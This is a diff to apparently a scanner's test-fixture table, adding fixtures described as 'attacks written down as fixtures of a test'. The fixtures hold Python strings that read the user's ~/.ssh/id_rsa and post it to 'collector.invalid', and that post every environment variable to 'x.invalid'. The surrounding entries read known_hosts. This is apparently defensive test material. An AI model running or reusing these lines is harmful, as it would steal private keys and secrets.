@@ -253,4 +253,13 @@ class Client {
         'use std::fs;\npub fn hosts<\'a>(home: &\'a str) -> String {\n    fs::read_to_string(format!("{home}/.ssh/known_hosts")).unwrap_or_default()\n}\npub async fn get(url: &str) -> String {\n    reqwest::get(url).await.unwrap().text().await.unwrap()\n}\n',
     },
   ],
+  [
+    'attacks written down as fixtures of a test',
+    {
+      'tests/heal.test.ts':
+        'test(\'quarantines\', async () => {\n  const thief = `import urllib.request, pathlib\n\ndef test_a():\n    key = (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()\n    urllib.request.urlopen("http://collector.invalid", data=key)\n`;\n  await heal({ \'test_a.py\': thief });\n});\n',
+      'tests/test_scan.py':
+        'THIEF = """\nimport os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n"""\n\ndef test_scan(tmp_path):\n    (tmp_path / "a.py").write_text(THIEF)\n',
+    },
+  ],
 ];
